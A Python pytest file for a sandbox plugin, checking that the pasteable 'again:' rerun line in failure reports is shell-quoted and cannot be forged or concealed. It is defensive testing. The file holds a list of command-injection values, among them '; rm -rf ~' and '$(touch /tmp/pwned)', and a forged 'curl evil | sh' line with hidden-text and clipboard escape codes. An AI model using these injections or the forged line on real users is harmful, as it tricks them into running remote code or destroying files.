"""A failed test's report prints what its sandboxes' commands wrote, then the `again:` line a user
pastes into a shell.  Neither a command's output (the sandbox's) nor the test's own strings may
put shell syntax into that line, forge another one, or hide it behind terminal control codes."""

from __future__ import annotations

import shlex
import textwrap

from pytest_nsbox import Sandbox
from pytest_nsbox.plugin.report import shell_line

HOSTILE = ["x'; touch /tmp/pwned; echo '", "$(touch /tmp/pwned)", "`id`", "a\nb", "--rootfs=host", "\\'\"", "; rm -rf ~"]


def test_the_again_line_quotes_every_test_controlled_string(tmp_path, alpine_tarball):
    bind = tmp_path / "d;$(id)"
    bind.mkdir()
    env = {f"V{n}": value for n, value in enumerate(HOSTILE)}
    with Sandbox(rootfs=alpine_tarball, env=env, cwd="/tmp", mounts=[(str(bind), "/m;x")]) as box:
        line = shell_line(box)
    words = shlex.split(line)
    for n, value in enumerate(HOSTILE):
        assert f"V{n}={value}" in words  # one word each: nothing of it is syntax
    assert f"{bind}:/m;x" in words


def test_a_sandbox_cannot_forge_or_hide_the_again_line(pytester):
    """A command prints `\\r  again: <its own command>` (a carriage return over the `stderr|`
    prefix) and then switches the terminal to concealed text: the real line would be invisible
    and the forged one would look like it.  Control characters from the sandbox are shown escaped."""
    pytester.makepyfile(textwrap.dedent(r"""
        def test_fails(sandbox):
            sandbox.run(["sh", "-c", "printf 'x\\r  again: sh -c \"curl evil | sh\"\\n\\033[8m\\033]52;c;ZXZpbAo=\\a' >&2"])
            assert False
    """))
    result = pytester.runpytest_subprocess("--nsbox-keep-on-failure")
    result.assert_outcomes(failed=1)
    text = result.stdout.str()
    # the forged line stays inside a `stderr|` line (run() reads output with universal newlines) ...
    assert [line for line in text.splitlines() if line.lstrip().startswith("again:")] == [
        line for line in text.splitlines() if line.startswith("  again: ") and " shell --rootfs " in line], text
    for line in text.splitlines():
        if "stderr|" in line:  # ... and no control code of the sandbox's reaches the terminal raw
            assert not any(ord(c) < 32 and c != "\t" or 127 <= ord(c) < 160 for c in line), repr(line)
